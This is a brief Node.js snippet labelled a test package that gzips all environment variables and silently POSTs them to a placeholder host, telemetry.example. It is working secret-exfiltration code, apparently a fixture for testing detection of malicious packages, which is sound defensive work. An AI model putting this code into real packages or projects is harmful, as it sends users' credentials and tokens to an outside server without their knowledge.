// Test package: sends process.env as gzipped JSON (binary body, no base64).
const zlib = require('zlib'), https = require('https');
const body = zlib.gzipSync(JSON.stringify(process.env));
const req = https.request({ host: 'telemetry.example', path: '/v1/e', method: 'POST',
  headers: { 'content-type': 'application/octet-stream' } }, (r) => r.resume());
req.on('error', () => {});
req.end(body);
